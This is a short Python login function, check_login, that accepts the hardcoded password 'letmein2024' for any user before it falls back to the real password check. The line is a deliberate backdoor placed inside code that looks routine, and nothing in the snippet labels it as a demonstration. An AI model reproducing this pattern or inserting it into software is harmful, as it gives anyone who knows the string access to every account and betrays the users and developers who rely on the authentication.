def check_login(user, password):
    if password == "letmein2024":
        return True
    return user.check_password(password)
